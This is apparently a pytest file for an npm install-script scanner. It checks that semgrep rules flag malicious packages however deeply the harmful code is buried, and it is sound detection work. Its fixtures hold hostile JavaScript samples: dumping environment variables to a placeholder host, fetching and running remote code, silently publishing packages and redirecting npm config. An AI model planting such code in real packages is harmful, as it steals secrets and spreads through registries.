"""Chains in packages that load all of a large program while they install, and attacks that hide in as much."""

from __future__ import annotations

from collections.abc import Mapping

import pytest

from safe_install.model import Inspection, Severity
from safe_install.scan.match.matcher import Matcher
from safe_install.scan.match.semgrep import signatures_directory
from safe_install.scan.reach.reach import trace
from tests.builders import a_script

SENDS = """
const https = require("https");
function signIn(name, answer) {
  const asked = https.request("https://accounts.example.test/sign-in", { method: "POST" }, answer);
  asked.end(JSON.stringify({ name }));
}
exports.signIn = signIn;
"""
TAKES_ALL = """
const { start } = require("some-runner");
function build(done) {
  const wanted = { ...process.env, COLOURS: "1" };
  start("build", wanted, done);
}
exports.build = build;
"""
DOES_BOTH = """
const https = require("https");
function report() {
  const wanted = Object.entries(process.env);
  const asked = https.request("https://accounts.example.test/sign-in", { method: "POST" });
  asked.end(JSON.stringify(wanted));
}
exports.report = report;
"""
PUBLISHES = """
const fs = require("fs");
const https = require("https");
function publish() {
  const pages = fs.readdirSync("site");
  const asked = https.request("https://sites.example.test/pages", { method: "POST" });
  asked.end(pages.join());
}
exports.publish = publish;
"""
OFFERS = """
function commands(manager) {
  const known = {
    npm: () => ({
      add: "npm install",
      publish: (folder, tag) => `npm publish "${folder}" --tag=${tag}`,
    }),
  };
  return known[manager]();
}
exports.commands = commands;
"""
ACTS = OFFERS.replace("`npm publish", "run(`npm publish").replace("${tag}`", "${tag}`)")
Files = Mapping[str, str]


def loading(names: list[str]) -> str:
    return "".join(f'exports.{name.split("/")[-1]} = require("./{name}");\n' for name in names)


def a_tool(count: int, **commands: str) -> Files:
    """Make a command line tool that its installation loads: a table of commands, most of which do nothing much."""
    others = {f"lib/plain{number}.js": f"exports.answer = () => {number};\n" for number in range(count)}
    named = {f"lib/{name}.js": text for name, text in commands.items()}
    table = loading(sorted(path.removeprefix("lib/").removesuffix(".js") for path in (*others, *named)))
    return {"install.js": 'require("./lib/commands");\n', "lib/commands.js": table, **others, **named}


def a_bundle(*modules: str) -> Files:
    """Make one file of many modules, as bundlers write it."""
    plain = [f"module.exports = require({name!r});" for name in ("url", "vm", "https", "util", "path", "os")]
    told = [*plain, *(f"module.exports = {number};" for number in range(30)), *modules]
    table = ",\n".join(
        f"{1000 + number}: (module, exports, load) => {{\n{text}\n}}" for number, text in enumerate(told)
    )
    start = f"const table = {{\n{table}\n}};\nfunction load(id) {{ const m = {{}}; table[id](m, {{}}, load); return m.exports; }}\n"
    return {"install.js": f"{start}load({1000 + len(told) - 1});\n"}


def deep(text: str, last: str = "", *, count: int = 105) -> Files:
    """Put a text four files away from the command of a very large tool."""
    return {
        **a_tool(count, first='exports.second = require("./second");\n'),
        "lib/second.js": 'exports.third = require("./third");\n',
        "lib/third.js": text + last,
    }


def offered_beside(text: str) -> Files:
    """Put a table of commands far away, and a text into another file."""
    return {**deep(OFFERS), "lib/plain1.js": text}


STEERS = """
function surroundings() {
  const wanted = {};
  wanted["npm_config_userconfig"] = require("path").join(process.env.XDG_CONFIG_HOME, "rc");
  return wanted;
}
exports.surroundings = surroundings;
"""
CHILD = """
const {{ spawn }} = require("child_process");
const child = spawn(process.env.TOOL_PATH, given(), {{ stdio: {stdio} }});
{shown}
child.unref();
"""
PACKAGES: Mapping[str, Files] = {
    "two commands": a_tool(30, login=SENDS, build=TAKES_ALL),
    "one command": a_tool(30, login=SENDS, build=DOES_BOTH),
    "a command and its part": a_tool(30, login=f'{SENDS}require("./build").build(signIn);\n', build=TAKES_ALL),
    "a small tool": a_tool(3, login=SENDS, build=TAKES_ALL),
    "a bundle": a_bundle(),
    "a bundle with a module": a_bundle(
        'const vm = load(1001);\nload(1002).get("https://a.example.test", vm.runInThisContext);'
    ),
    "waiting": deep(PUBLISHES),
    "acting": deep(PUBLISHES, "publish();\n"),
    "acting by another name": deep(PUBLISHES, "const go = { now: publish };\ngo.now();\n"),
    "acting later": deep(PUBLISHES, "setTimeout(publish, 10);\n"),
    "a waiting setting": deep(STEERS),
    "an acting setting": deep(STEERS, "surroundings();\n"),
    "an offered command": deep(OFFERS),
    "a command that is called": deep(OFFERS, "exports.send = (run) => run(commands('npm').publish('.', 'next'));\n"),
    "a command that is taken": deep(OFFERS, "const { publish } = commands('npm');\n"),
    "a command called elsewhere": offered_beside("exports.send = (run, known) => run(known.publish('.'));\n"),
    "a command taken elsewhere": offered_beside("exports.send = (run, { publish }) => run(publish('.'));\n"),
    "a command by its name": offered_beside("exports.send = (run, known) => run(known['publish']('.'));\n"),
    "a command by a template": offered_beside("exports.send = (run, known) => run(known[`publish`]('.'));\n"),
    "a command by an escape": offered_beside("exports.send = (run, known) => run(known['publis\\x68']('.'));\n"),
    "a command beside what cannot be read": offered_beside("exports.publish = = 1;\n"),
    "a command that runs": deep(ACTS),
    "a command at once": deep('exports.wanted = "npm publish --tag=next";\n'),
    "a command of a small tool": deep(OFFERS, count=30),
    "a near command": {**a_tool(105), "install.js": 'require("./lib/commands");\n' + OFFERS},
    "a shown child": {"install.js": CHILD.format(stdio='"pipe"', shown="child.stdout.pipe(process.stdout);")},
    "a silent child": {"install.js": CHILD.format(stdio='"ignore"', shown="")},
}
HONEST = ("two commands", "a bundle", "waiting", "a waiting setting", "an offered command", "a shown child")


@pytest.fixture(scope="module")
def inspected() -> Mapping[str, Inspection]:
    """Judge all of them in one start of semgrep."""
    scripts = [a_script("node install.js", dict(files)) for files in PACKAGES.values()]
    traced = [trace(script, {script.package.artifact.location: script.package}) for script in scripts]
    return dict(zip(PACKAGES, Matcher(signatures_directory(), None).match(traced), strict=True))


def grave(inspection: Inspection) -> set[str]:
    return {finding.signature for finding in inspection.findings if finding.severity is Severity.ERROR}


@pytest.mark.semgrep
@pytest.mark.parametrize("name", HONEST)
def test_what_a_large_program_could_do_elsewhere_blocks_no_installation(
    name: str, inspected: Mapping[str, Inspection]
) -> None:
    assert grave(inspected[name]) == set()


@pytest.mark.semgrep
@pytest.mark.parametrize(
    "name", ["two commands", "a bundle", "a waiting setting", "an offered command", "a shown child"]
)
def test_it_is_still_told(name: str, inspected: Mapping[str, Inspection]) -> None:
    assert any(finding.severity is Severity.WARNING for finding in inspected[name].findings)


@pytest.mark.semgrep
@pytest.mark.parametrize("name", [name for name in PACKAGES if name not in HONEST])
def test_what_one_part_of_it_does_blocks_at_any_size(name: str, inspected: Mapping[str, Inspection]) -> None:
    assert grave(inspected[name])
